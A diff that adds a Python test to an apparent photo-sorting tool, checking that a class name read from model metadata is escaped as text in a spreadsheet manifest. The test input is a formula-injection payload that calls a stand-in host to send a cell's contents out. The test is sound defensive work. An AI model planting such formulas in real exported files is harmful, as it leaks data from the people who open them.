@@ -1740,3 +1740,15 @@ def test_a_class_folder_planted_as_a_link_takes_no_photo(engine, tmp_path) -> No
         (str(photos / "mouse.png"), "a link to another folder, not a class folder: remove it")
     ]
     assert len(report.filed) == 11
+
+
+def test_a_class_name_a_spreadsheet_would_run_is_text_in_the_manifest(engine, tmp_path) -> None:
+    # Class names come from a model's metadata, which anyone may write.
+    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
+    names = ['=HYPERLINK("http://example.invalid/?"&A2)', *CLASS_NAMES[1:]]
+    battery = [p for p in classified(engine, photos) if Path(p.path).name == "battery.png"]
+    sort_into(battery, dest, names, THRESHOLD)
+    [row] = manifest_rows(dest)
+    assert row["class"] == "'" + names[0]  # shown as text, never run
+    [entry] = sort_manifest.manifest_entries(dest)
+    assert entry.class_name == names[0]  # read back as it was
